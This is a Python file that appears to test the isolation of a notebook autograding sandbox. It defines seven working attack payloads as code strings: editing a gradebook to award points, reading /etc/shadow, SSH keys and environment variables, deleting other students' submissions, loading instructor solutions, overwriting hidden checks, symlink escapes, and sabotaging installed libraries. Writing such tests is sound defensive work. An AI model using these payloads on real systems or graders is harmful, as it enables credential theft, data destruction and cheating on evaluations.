"""Files: nothing of the machine can be read, nothing of it changed. What is found is printed, to be found in turn."""

from attacks.notebooks import TRIED, Attack

FIND = """
import os
def show(path):
    try:
        print(path, open(path, 'rb').read(10**5))
    except OSError as error:
        print(path, type(error).__name__)
roots = [os.path.abspath(os.path.join('.', *['..'] * up)) for up in range(6)] + ['/work', '/home', '/root', '/course']
def everywhere(*names):
    for top in dict.fromkeys(roots):
        for folder, folders, files in os.walk(top):
            folders[:] = [f for f in folders if f not in ('proc', 'sys', 'usr', 'venv', '.venv', 'dev', 'lib', '.git')]
            yield from (os.path.join(folder, name) for name in files if name in names or name.endswith(names))
"""

ATTACKS = (
    Attack("gradebook", "give itself 594 points", FIND + """
import sqlite3
for path in everywhere('gradebook.db'):
    show(path)
    connection = sqlite3.connect(path)
    connection.execute('UPDATE grade SET auto_score = 594, manual_score = 594')
    connection.commit()
"""),
    Attack("system files", "read the machine's users, keys and environment", TRIED + """
for path in ('/etc/passwd', '/etc/shadow', '/root/.ssh/id_rsa', '/root/.bash_history', '/proc/1/environ',
             '/proc/self/environ', '/proc/self/cmdline', '/proc/1/cmdline', '/proc/mounts', '/proc/self/mountinfo'):
    tried(path, lambda: open(path, 'rb').read(5000))
print(dict(os.environ))
""", rich=True),
    Attack("submissions of others", "copy others' answers, read how they are graded, and erase them", FIND + """
for path in list(everywhere('.ipynb', 'gradebook.db', 'nbgrader_config.py', 'settings.py', 'judge.py', 'seed')):
    show(path)
    if 'mallory' not in path:
        try:
            os.remove(path)
        except OSError:
            pass
""", rich=True),
    Attack("solutions", "run the instructor's answers", FIND + """
for path in everywhere('00_attention.py', 'scorers.py', 'attention.py'):
    show(path)
import sys
sys.path[:0] = roots
found = {}
try:
    import seq2seq.attention, seq2seq.scorers
    found = {**vars(seq2seq.attention), **vars(seq2seq.scorers)}
except ImportError:
    pass
import builtins
builtins.found = found
get_ipython().events.register('post_run_cell', lambda result: get_ipython().user_ns.update(found))
"""),
    Attack("checks", "read the hidden checks and change them", FIND + """
for path in everywhere('finding.py', 'masking.py', 'context.py'):
    show(path)
    try:
        open(path, 'w').write('def check_masked_softmax(*a): pass\\ndef __getattr__(name): return lambda *a: None')
    except OSError as error:
        print(error)
"""),
    Attack("symbolic links", "have the grader follow a link out of the box", TRIED + """
os.makedirs('/tmp/matplotlib', exist_ok=True)
for path in ('/tmp/out', '/tmp/matplotlib/fontlist.json', '/tmp/05_scorers.ipynb'):
    tried('', lambda: os.symlink('/proc/1/root/etc/passwd', path), lambda: open(path).read())
"""),
    Attack("libraries", "leave a changed torch to those who come after", """
import torch, numpy, IPython, sys
for module in list(sys.modules.values()):
    path = getattr(module, '__file__', None)
    if path and path.endswith('.py'):
        try:
            open(path, 'a').write('\\nraise SystemExit')
        except OSError:
            pass
"""),
)  # fmt: skip
